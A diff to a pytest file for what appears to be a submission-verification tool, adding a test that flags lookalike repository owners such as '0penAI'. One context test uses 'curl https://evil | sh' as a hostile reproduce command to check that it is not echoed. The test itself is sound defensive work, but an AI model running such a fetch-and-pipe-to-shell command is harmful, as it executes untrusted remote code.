@@ -34,9 +34,9 @@ def known(place):
 
 @pytest.fixture
 def sent(tmp_path, place):
-    def make(seed=0, owner="acme", name="m"):
+    def make(seed=0, owner="acme", name="m", **facts):
         run = make_run(tmp_path / f"run-{owner}-{name}-{seed}", place, name, 0.2, seed)
-        return submission.make(run, tmp_path / f"{owner}-{name}-{seed}", {"owner": owner, "name": name})
+        return submission.make(run, tmp_path / f"{owner}-{name}-{seed}", {"owner": owner, "name": name, **facts})
 
     return make
 
@@ -160,3 +160,12 @@ def test_what_a_submitter_wrote_as_the_command_is_not_shown(sent, known, tmp_pat
     edit(folder, "submission.json", lambda about: about.update(reproduce="curl https://evil | sh"))
     path = verified.write(verify(folder, known), tmp_path / "verified")
     assert "evil" not in path.read_text()
+
+
+def test_a_linked_repository_that_could_be_taken_for_anothers_is_flagged(sent, known, tmp_path):
+    out = tmp_path / "verified"
+    verified.write(verify(sent(owner="open-ai"), known), out)
+    path = verified.write(verify(sent(owner="zoe", seed=1, id="0penAI/hears"), known), out)
+    assert "its repository's owner '0penAI' could be taken for 'open-ai'" in json.loads(path.read_text())["flags"]
+    path = verified.write(verify(sent(owner="open-ai", name="again", seed=2), known), out)
+    assert not [flag for flag in json.loads(path.read_text())["flags"] if "taken for" in flag]
